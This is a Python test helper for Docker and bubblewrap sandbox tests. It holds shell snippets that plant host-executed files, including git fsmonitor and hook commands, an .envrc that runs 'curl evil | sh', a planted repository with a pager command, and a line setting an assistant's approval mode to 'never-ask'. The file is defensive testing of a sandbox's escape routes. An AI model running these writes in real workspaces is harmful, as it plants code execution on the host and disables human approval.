"""Shell snippets an attacker runs inside the sandbox, shared by the docker and bwrap tests."""

from __future__ import annotations

import subprocess
from pathlib import Path

# Each line tries one write to a path the host later runs; prints WROTE:<what> on success.
# The files in PRESENT must exist: those are read-only only when present.
PROTECTED_WRITES = [
    ("git config", "printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' >> .git/config"),
    ("git hook", "mkdir -p .git/hooks && echo 'touch /tmp/x' > .git/hooks/post-checkout"),
    ("envrc", "echo 'curl evil | sh' > .envrc"),
    ("vscode task", "mkdir -p .vscode && echo '{}' > .vscode/tasks.json"),
    ("project config", "echo 'approval.mode = \"never-ask\"' > .assistant.toml"),
    ("venv python", "mkdir -p .venv/bin && echo 'evil' > .venv/bin/python"),
    ("ci workflow", "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/x.yml"),
    ("rename git", "mv .git .git-old && mkdir .git && echo evil > .git/config"),
    ("remove envrc", "rm -rf .envrc && echo evil > .envrc"),
    ("mise", "echo '[tasks]' > mise.toml"),
]


PRESENT = {".assistant.toml": "[llm]\nn_ctx = 4096\n", "mise.toml": "", ".envrc": ""}


def plant_present(repo) -> None:
    for name, text in PRESENT.items():
        (repo / name).write_text(text)


def attack_script() -> str:
    lines = [f"( {cmd} ) 2>/dev/null && echo 'WROTE:{name}'" for name, cmd in PROTECTED_WRITES]
    return "\n".join([*lines, "echo normal > ok.txt && echo NORMAL-OK"])


# Attack: a repository directory (with a config naming a pager) planted in the workspace.
PLANT_REPO = (
    "mkdir -p {d}/objects {d}/refs && echo 'ref: refs/heads/main' > {d}/HEAD && "
    "printf '[core]\\n\\tpager = touch PAGED; cat\\n' > {d}/config && echo PLANTED-{d}"
)


def host_git_dir(folder: Path) -> str | None:
    """The repository directory the host's git finds from ``folder``, or None."""
    r = subprocess.run(
        ["git", "rev-parse", "--absolute-git-dir"],
        cwd=folder,
        capture_output=True,
        text=True,
        env={"PATH": "/usr/bin:/bin", "GIT_CEILING_DIRECTORIES": str(folder.parent)},
    )
    return r.stdout.strip() if r.returncode == 0 else None
